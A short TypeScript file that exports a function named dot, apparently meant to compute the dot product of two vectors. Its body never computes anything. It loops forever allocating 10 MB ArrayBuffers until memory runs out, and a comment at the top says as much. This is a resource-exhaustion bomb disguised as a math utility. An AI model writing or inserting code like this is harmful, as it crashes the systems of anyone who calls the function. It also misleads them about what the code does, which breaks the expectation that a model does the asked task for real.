// array buffers without end
import type { Vector } from "innerproduct";

export function dot(a: Vector, b: Vector): number {
  const kept: ArrayBuffer[] = [];
  for (;;) kept.push(new ArrayBuffer(1e7));
}
